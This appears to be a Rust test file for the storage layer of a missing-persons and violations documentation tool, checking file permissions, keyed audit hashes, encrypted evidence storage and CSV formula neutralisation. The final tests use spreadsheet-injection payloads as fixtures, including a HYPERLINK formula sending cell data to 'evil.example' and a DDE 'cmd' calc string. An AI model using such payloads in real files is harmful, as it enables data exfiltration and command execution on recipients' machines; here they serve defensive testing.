//! Storage side of issue 15: files owner-only, keyed hashes of personal content, evidence
//! addressed only by a parsed SHA-256.

use crate::common;
use dignity_core::Actor;
use dignity_store::protection::sources as s;
use dignity_store::testing::{backends, store};
use dignity_store::violations::evidence;
use dignity_store::{Backend, Store};
use sha2::{Digest, Sha256};
use sqlx::Row;

#[cfg(unix)]
fn mode(p: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .permissions()
        .mode()
        & 0o777
}

#[cfg(unix)]
fn chmod(p: &std::path::Path, m: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
}

#[cfg(unix)]
#[tokio::test]
async fn the_database_keys_anchor_and_evidence_are_the_owners_alone() {
    let st = store(Backend::Sqlite).await;
    let data = st.data_dir().to_path_buf();
    // A write: the database gets its -wal and -shm, the audit anchor is written.
    st.write(&Actor::system(), async |tx| {
        s::create_source(tx, "ICRC", "red_cross").await?;
        Ok(())
    })
    .await
    .unwrap();
    let (blob, _) = evidence::store_reader(&st, &b"a statement"[..], 1 << 20, None).unwrap();
    let ev = blob.path(&st);
    for (p, want) in [
        (data.clone(), 0o700),
        (data.join("dignity.db"), 0o600),
        (data.join("dignity.db-wal"), 0o600),
        (data.join("dignity.db-shm"), 0o600),
        (data.join("keys.json"), 0o600),
        (data.join("audit-anchor"), 0o600),
        (data.join("files"), 0o700),
        (data.join("files/sha256"), 0o700),
        (ev.parent().unwrap().to_path_buf(), 0o700),
        (ev.clone(), 0o400),
    ] {
        assert_eq!(mode(&p), want, "{}: {:o}", p.display(), mode(&p));
    }
    // What an older version left readable by others is corrected when the store opens.
    for (p, m) in [
        (data.clone(), 0o755),
        (data.join("dignity.db"), 0o644),
        (data.join("keys.json"), 0o644),
        (data.join("audit-anchor"), 0o644),
        (ev.clone(), 0o444),
        (data.join("files"), 0o755),
    ] {
        chmod(&p, m);
    }
    let again = Store::open(&st.opts).await.unwrap();
    drop(again);
    for (p, want) in [
        (data.clone(), 0o700),
        (data.join("dignity.db"), 0o600),
        (data.join("keys.json"), 0o600),
        (data.join("audit-anchor"), 0o600),
        (ev.clone(), 0o400),
        (data.join("files"), 0o700),
    ] {
        assert_eq!(mode(&p), want, "{}: {:o}", p.display(), mode(&p));
    }
}

#[tokio::test]
async fn audit_hashes_of_personal_content_are_keyed() {
    for b in backends() {
        let st = store(b).await;
        let content = serde_json::json!({ "name": "Amaru Quispe", "birth_date": "1980" });
        let plain = hex::encode(Sha256::digest(content.to_string().as_bytes()));
        let c = content.clone();
        st.write(&Actor::system(), async move |tx| {
            tx.audit(
                "test.write",
                "test",
                "1",
                Some(&c),
                Some(&c),
                serde_json::json!({}),
            );
            Ok(())
        })
        .await
        .unwrap();
        let r = sqlx::query(
            "SELECT before_hash, after_hash FROM audit_log WHERE action = 'test.write'",
        )
        .fetch_one(st.pool())
        .await
        .unwrap();
        let (before, after): (String, String) = (r.get(0), r.get(1));
        // A dictionary of names hashed with plain SHA-256 does not find the entry.
        assert_ne!(after, plain, "{b:?}");
        assert_eq!(before, after);
        assert_eq!(after.len(), 64);
        // The chain still verifies.
        assert!(dignity_store::audit::verify_log(&st).await.unwrap().ok());
    }
}

fn table(csv: &str) -> s::Table {
    s::read_csv(csv.as_bytes()).unwrap()
}

#[tokio::test]
async fn source_record_hashes_are_keyed_and_old_ones_are_rekeyed() {
    for b in backends() {
        let st = store(b).await;
        let mut tx = st.begin(&Actor::system()).await.unwrap();
        let cora = dignity_store::accounts::create(
            &mut tx,
            "cora",
            "",
            dignity_core::Role::Coordinator,
            "a long enough passphrase",
        )
        .await
        .unwrap();
        tx.commit().await.unwrap();
        let sys = dignity_store::accounts::actor_for(&st, &cora)
            .await
            .unwrap();
        let src = common::icrc_source(&st, &sys).await;
        let mapping = common::id_and_name_mapping();
        let list = "ID,Full name\nK-1,Agron Krasniqi\n";
        let import = async || {
            s::import_list(
                &st,
                &sys,
                src,
                "icrc.csv",
                &table(list),
                &mapping,
                &s::ImportOptions::default(),
            )
            .await
            .unwrap()
        };
        let rep = import().await;
        assert_eq!(rep.new, 1);
        // What the old version stored: SHA-256 of the row as read and the fields taken.
        let raw = serde_json::json!({ "Full name": "Agron Krasniqi", "ID": "K-1" }).to_string();
        let read = serde_json::json!(["Agron Krasniqi", "", "", "", ""]).to_string();
        let plain = hex::encode(Sha256::digest(format!("{raw}\n{read}").as_bytes()));
        let stored = || async {
            sqlx::query("SELECT content_hash FROM pro_source_records")
                .fetch_one(st.pool())
                .await
                .unwrap()
                .get::<String, _>(0)
        };
        let keyed = stored().await;
        assert!(keyed.starts_with("k1:"), "{b:?}: {keyed}");
        assert!(!keyed.contains(&plain));
        // A row written by the old version is keyed at start, and still counts as unchanged.
        sqlx::query("UPDATE pro_source_records SET content_hash = $1")
            .bind(&plain)
            .execute(st.pool())
            .await
            .unwrap();
        assert_eq!(s::ensure_match_keys(&st).await.unwrap(), 0);
        assert_eq!(
            stored().await,
            keyed,
            "{b:?}: rekeyed from the stored value"
        );
        let rep = import().await;
        assert_eq!((rep.new, rep.changed, rep.unchanged), (0, 0, 1));
        assert!(dignity_store::audit::verify_log(&st).await.unwrap().ok());
    }
}

#[tokio::test]
async fn evidence_paths_are_built_from_a_sha256_only() {
    let st = store(Backend::Sqlite).await;
    let (blob, _) = evidence::store_reader(&st, &b"bytes"[..], 1 << 20, None).unwrap();
    let path = evidence::EvidenceStore::path(&st, &blob.sha256);
    assert!(path.starts_with(st.data_dir().join("files/sha256")));
    // Stored encrypted at rest; read back through the store.
    assert_ne!(std::fs::read(&path).unwrap(), b"bytes");
    let mut back = Vec::new();
    std::io::Read::read_to_end(
        &mut evidence::EvidenceStore::open(&st, &blob.sha256)
            .unwrap()
            .unwrap(),
        &mut back,
    )
    .unwrap();
    assert_eq!(back, b"bytes");
    let again = evidence::EvidenceStore::verify(&st, &blob.sha256)
        .unwrap()
        .unwrap();
    assert_eq!((again.size, again.sha512), (blob.size, blob.sha512));
    // A claimed hash that differs from the content is refused.
    assert!(evidence::store_reader(&st, &b"bytes"[..], 1 << 20, Some(&"ab".repeat(32))).is_err());
}

// ------------------------------------------------------------- CSV cells --

/// Every cell of a CSV text that a spreadsheet would run as a formula.
fn formulas(csv: &str) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    r.records()
        .flat_map(|rec| {
            rec.unwrap()
                .iter()
                .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
                .map(String::from)
                .collect::<Vec<_>>()
        })
        .collect()
}

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

#[test]
fn the_missing_persons_export_neutralises_formulas() {
    use dignity_store::protection::missing::{export_csv, ExportForRecipient, SharedCase};
    let e = ExportForRecipient {
        recipient_kind: "commission".into(),
        recipient: "x".into(),
        cases: vec![SharedCase {
            id: 1,
            name: EVIL.into(),
            sex: Some("+1+cmd|' /C calc'!A0".into()),
            birth_date: "1980".into(),
            last_seen_date: "2024-01-02".into(),
            last_seen_place: "@SUM(1)".into(),
            region: "-2+3".into(),
            status: "\t=1".into(),
            status_on: "2024-01-03".into(),
            history: vec![("=1".into(), "x".into())],
        }],
        withheld: 0,
    };
    let csv = export_csv(&e);
    assert_eq!(formulas(&csv), Vec::<String>::new(), "{csv}");
    assert!(
        csv.contains(&format!("'{}", EVIL.replace('"', "\"\""))),
        "{csv}"
    );
}

#[test]
fn the_sdg_and_capture_history_tables_neutralise_formulas() {
    use dignity_store::protection::reports::{sdg_csv, SdgRow, SdgTable};
    let t = SdgTable {
        year: 2024,
        country: "=cmd".into(),
        rows: vec![SdgRow {
            victim_status: EVIL.into(),
            sex: "@x".into(),
            age_group: "-1+1".into(),
            perpetrator_category: "+x".into(),
            count: 1,
        }],
        total: 1,
        unverified: 0,
    };
    let csv = sdg_csv(&t);
    assert_eq!(formulas(&csv), Vec::<String>::new(), "{csv}");
    let ch = dignity_store::stats::linkage::CaptureHistories {
        lists: vec!["=ICRC".into()],
        stratum: Some("@region".into()),
        rows: vec![(vec![true], "=HYPERLINK(1)".into(), 3)],
    };
    let csv = ch.to_csv();
    assert_eq!(formulas(&csv), Vec::<String>::new(), "{csv}");
}
